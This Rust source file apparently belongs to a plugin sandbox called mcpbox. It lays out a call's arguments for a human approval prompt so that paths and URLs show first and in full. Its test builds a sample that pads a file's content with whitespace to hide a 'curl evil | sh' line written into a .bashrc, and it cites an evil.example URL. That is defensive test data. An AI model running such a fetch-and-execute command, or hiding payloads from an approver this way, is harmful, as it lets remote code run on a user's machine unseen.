//! A call's arguments as the approval question shows them (`approval.rs`): what the call may
//! touch first and whole, the rest folded. Round four found a question that sorted the
//! arguments and cut them after 2,000 characters, so that a long `content` pushed `path` out of
//! view: "Allow once" then wrote a file the person never saw named.
//!
//! "Reach" is every argument whose value names a place: its key says so (`path`, `file`, `dir`,
//! `url`, `name`, `to`, `from`, ...), or its text looks like one (it starts with `/`, `~`, `./`,
//! `../` or a drive, or holds `://`). Those come first, in full (escaped, up to a budget that
//! says when it is exceeded). The other leaves follow, one a line, a long one folded to its
//! start with its length. mcpbox never claims to know which files a plugin will touch: the
//! heading says the plugin decides.

use serde_json::Value;

use crate::readable::readable;

/// The most characters of reach shown: past it, the question says the call is not shown whole.
const REACH_BUDGET: usize = 16 * 1024;
/// A value longer than this (after escaping) is folded.
const FOLD_AT: usize = 200;
/// How much of a folded value is shown.
const FOLDED: usize = 120;
/// At most this many other leaves are listed (then how many more there are).
const MAX_OTHERS: usize = 64;

/// Keys whose values name a place a call may touch, compared in any case.
const REACH_KEYS: &[&str] = &[
    "path",
    "paths",
    "file",
    "files",
    "filename",
    "filepath",
    "dir",
    "dirs",
    "directory",
    "folder",
    "source",
    "src",
    "destination",
    "dest",
    "target",
    "url",
    "urls",
    "uri",
    "href",
    "link",
    "endpoint",
    "host",
    "name",
    "to",
    "from",
    "root",
    "cwd",
    "location",
];

/// Endings of keys that name a place whatever comes before (`sourcePath`, `output_file`).
const REACH_SUFFIXES: &[&str] = &["path", "paths", "file", "files", "dir", "directory", "url", "uri"];

/// The arguments' lines of the question.
pub(super) fn shown(arguments: &str) -> String {
    let Ok(value) = serde_json::from_str::<Value>(arguments) else {
        return format!("Arguments (not JSON):\n  {}\n", readable(arguments, REACH_BUDGET));
    };
    let mut leaves = Vec::new();
    flatten("", &value, &mut leaves);
    if leaves.is_empty() {
        return "Arguments: none\n".to_owned();
    }
    let (reach, others): (Vec<_>, Vec<_>) = leaves
        .into_iter()
        .partition(|(path, leaf)| crate::switched_off!("approvals.reach-shown-first") || is_reach(path, leaf));
    let mut out = String::new();
    if !reach.is_empty() {
        out.push_str("Paths, URLs and names in the arguments (the plugin decides what it touches):\n");
        let mut spent = 0;
        for (shown, (path, leaf)) in reach.iter().enumerate() {
            let text = readable(&leaf.to_string(), REACH_BUDGET);
            if spent + text.len() > REACH_BUDGET {
                let left: usize = reach[shown..].iter().map(|(_, leaf)| leaf.to_string().len()).sum();
                out.push_str(&format!("  … ({left} more characters: the call is not shown whole)\n"));
                break;
            }
            spent += text.len();
            out.push_str(&format!("  {}: {text}\n", readable(path, 200)));
        }
    }
    if !others.is_empty() {
        out.push_str(if reach.is_empty() { "Arguments:\n" } else { "Other arguments:\n" });
        for (path, leaf) in others.iter().take(MAX_OTHERS) {
            out.push_str(&format!("  {}: {}\n", readable(path, 200), folded(leaf)));
        }
        if others.len() > MAX_OTHERS {
            out.push_str(&format!("  … ({} more arguments)\n", others.len() - MAX_OTHERS));
        }
    }
    out
}

/// A leaf as shown: whole when short, else its start and its length.
fn folded(leaf: &Value) -> String {
    let text = leaf.to_string();
    let shown = readable(&text, FOLD_AT);
    if text.chars().count() <= FOLD_AT && !shown.contains("more characters not shown") {
        return shown;
    }
    let start: String = text.chars().take(FOLDED).collect();
    format!("{}… ({} characters)", readable(&start, FOLDED * 2), text.chars().count())
}

/// Whether a leaf names a place: by its key, or by its text.
fn is_reach(path: &str, leaf: &Value) -> bool {
    let key = path.rsplit(['.', '[']).next().unwrap_or(path).trim_end_matches(']').to_ascii_lowercase();
    // A key that is one (`path`, `url`), or ends as one of the unmistakable ones
    // (`sourcePath`, `output_file`, `base_url`).
    if REACH_KEYS.contains(&key.as_str()) || REACH_SUFFIXES.iter().any(|suffix| key.ends_with(suffix)) {
        return true;
    }
    let Value::String(text) = leaf else { return false };
    let text = text.trim_start();
    text.starts_with(['/', '~']) || text.starts_with("./") || text.starts_with("../") || text.contains("://") || {
        let bytes = text.as_bytes();
        bytes.len() > 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':' && matches!(bytes[2], b'\\' | b'/')
    }
}

/// The leaves of `value` with their paths (`edits[0].path`), in the arguments' order.
fn flatten(path: &str, value: &Value, out: &mut Vec<(String, Value)>) {
    match value {
        Value::Object(object) if !object.is_empty() => {
            for (key, value) in object {
                let child = if path.is_empty() { key.clone() } else { format!("{path}.{key}") };
                flatten(&child, value, out);
            }
        }
        Value::Array(items) if !items.is_empty() => {
            for (index, value) in items.iter().enumerate() {
                flatten(&format!("{path}[{index}]"), value, out);
            }
        }
        leaf => out.push((if path.is_empty() { "(the arguments)".to_owned() } else { path.to_owned() }, leaf.clone())),
    }
}

#[cfg(test)]
mod tests {
    use super::shown;

    /// Round four: a long `content` never pushes `path` out of view; the padding is folded
    /// with its length.
    #[test]
    fn what_a_call_touches_is_shown_first_and_whole() {
        let content = format!("# notes\n{}curl evil | sh\n", " ".repeat(2100));
        let arguments = serde_json::json!({ "content": content, "path": "/home/me/project/.bashrc" }).to_string();
        let text = shown(&arguments);
        let path_at = text.find("path: \"/home/me/project/.bashrc\"").expect(&text);
        let content_at = text.find("content: ").expect(&text);
        assert!(path_at < content_at, "{text}");
        assert!(text.contains("characters)"), "folded with its length: {text}");
        // Nested, and a URL by its text alone.
        let nested = shown(r#"{"edits":[{"path":"a.txt","newText":"x"}],"note":"see https://evil.example/x"}"#);
        assert!(nested.starts_with("Paths, URLs and names"), "{nested}");
        let reach = nested.split("Other arguments").next().unwrap();
        assert!(reach.contains("edits[0].path: \"a.txt\"") && reach.contains("note: "), "{nested}");
    }
}
